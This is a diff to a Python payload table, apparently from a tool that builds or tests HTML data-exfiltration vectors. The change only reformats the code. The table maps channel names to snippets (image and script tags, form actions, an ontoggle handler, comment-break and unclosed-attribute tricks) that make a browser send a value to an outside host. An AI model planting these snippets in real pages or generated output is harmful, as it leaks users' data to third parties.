@@ -43,16 +43,20 @@ MARKUP: Final[Mapping[str, Channel]] = {
     "html-embed": lambda load: f'<embed src="{load.url}">',
     "html-form": lambda load: f'<form action="{load.url}"><button>Send</button></form>',
     "html-formaction": lambda load: f'<form><button formaction="{load.url}">Go</button></form>',
-    "html-form-field": lambda load: f'<form action="https://{load.host}/{load.name}">'
-    f'<input name=d value="{load.value}"><button>Send</button></form>',
+    "html-form-field": lambda load: (
+        f'<form action="https://{load.host}/{load.name}">'
+        f'<input name=d value="{load.value}"><button>Send</button></form>'
+    ),
     "html-input-image": lambda load: f'<input type=image src="{load.url}">',
-    "html-base": lambda load: f'<base href="https://{load.host}/{load.name}/">'
-    f'<img src="{load.value}">',
+    "html-base": lambda load: (
+        f'<base href="https://{load.host}/{load.name}/"><img src="{load.value}">'
+    ),
     "html-body": lambda load: f'<table background="{load.url}"><tr><td>x</table>',
     "html-script-src": lambda load: f'<script src="{load.url}"></script>',
     "html-script": lambda load: f"<script>new Image().src='{load.url}'</script>",
-    "html-details": lambda load: f"<details open ontoggle=\"new Image().src='{load.url}'\">x"
-    "</details>",
+    "html-details": lambda load: (
+        f"<details open ontoggle=\"new Image().src='{load.url}'\">x</details>"
+    ),
     "html-comment-break": lambda load: f'<!--> <img src="{load.url}"> -->',
     "html-unclosed": lambda load: f'<img src="{load.url}" alt="',
     "html-nested-tag": lambda load: f'<<b>img src="x"><img src="{load.url}">',
